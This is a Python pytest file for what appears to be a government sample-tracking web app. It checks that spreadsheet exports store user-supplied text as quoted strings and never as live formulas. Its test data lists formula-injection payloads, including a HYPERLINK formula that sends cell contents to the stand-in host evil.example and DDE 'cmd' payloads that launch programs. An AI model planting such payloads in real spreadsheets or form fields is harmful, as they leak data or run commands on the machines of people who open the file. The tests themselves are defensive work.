"""No text from users becomes a live formula in a spreadsheet export (issue 16, defect 6): the tracking book
(Form 07), the control slips (Form 06) and the dashboard's workbook write every text cell as a string, quoted
when it begins like a formula, and keep its text exactly."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from engine.org import directory as org
from tests.helpers import applicant, receive_sample
from tests.page_helpers import login
from web.officer.dashboard_export import _table
from web.xlsx import FORMULA_TRIGGERS, XLSX_MIME, put

XA = "000.00.31.H99"
DAY = {"from": "2026-12-07", "to": "2026-12-07", "agency": XA}
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|'/c notepad'!'A1'",
]


def formulas(workbook) -> list[str]:
    return [f"{sheet.title}!{cell.coordinate}" for sheet in workbook.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]


def texts(workbook) -> set[str]:
    return {cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if isinstance(cell.value, str)}


def read(response):
    assert response.status_code == 200 and response.mimetype == XLSX_MIME
    return load_workbook(io.BytesIO(response.data))


@pytest.fixture
def poisoned(ctx, people) -> list[str]:
    for i, name in enumerate(INJECTIONS):
        person = {**applicant(name), "address": INJECTIONS[-1 - i]}
        receive_sample(ctx, people, applicant=person)
    return INJECTIONS


def test_registers_write_applicants_as_text(app, poisoned):
    client = app.test_client()
    assert login(client, "xa.lanhdao").status_code == 302
    book = read(client.get("/officer/records/tracking-book", query_string={**DAY, "format": "xlsx"}))
    slips = read(client.get("/officer/records/control-slips.xlsx", query_string=DAY))
    for workbook in (book, slips):
        assert formulas(workbook) == []
        assert set(poisoned) <= texts(workbook) | {  # the contact column joins address and phone
            v.rsplit(", ", 1)[0] for v in texts(workbook)}
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.quotePrefix, cell.coordinate


def test_dashboard_workbook_writes_names_as_text(client, ctx, people):
    org.add_unit(ctx, "XSS", XA, "=HYPERLINK(\"http://evil.example\",\"x\")")
    receive_sample(ctx, people, applicant=applicant(INJECTIONS[0]))
    login(client, "xa.lanhdao")
    workbook = read(client.get("/officer/dashboard/export.xlsx",
                               query_string={"from": "2026-12-01", "to": "2027-01-01"}))
    assert formulas(workbook) == []
    workbook = Workbook()
    _table(workbook.active, 1, ["=A1", "Mã"], [[text, 1] for text in INJECTIONS], [None, "0"])
    saved = io.BytesIO()
    workbook.save(saved)
    again = load_workbook(io.BytesIO(saved.getvalue()))
    assert formulas(again) == [] and set(INJECTIONS) | {"=A1"} <= texts(again)


@pytest.mark.parametrize("value", INJECTIONS + ["\t=1+1", "\r=1+1", "\n=1+1", "=\x00\x01cmd", "Nguyễn Văn An", "", "-"])
def test_every_text_cell_is_a_string(value):
    workbook = Workbook()
    cell = put(workbook.active, 1, 1, value)
    put(workbook.active, 1, 2, 42)
    saved = io.BytesIO()
    workbook.save(saved)
    sheet = load_workbook(io.BytesIO(saved.getvalue())).active
    assert formulas(sheet.parent) == []
    assert sheet["B1"].value == 42 and sheet["B1"].data_type == "n"
    expected = value.replace("\x00", "").replace("\x01", "")
    assert (sheet["A1"].value or "") == expected.replace("\r", "\n") or (sheet["A1"].value or "") == expected
    assert cell.quotePrefix == expected.startswith(FORMULA_TRIGGERS)
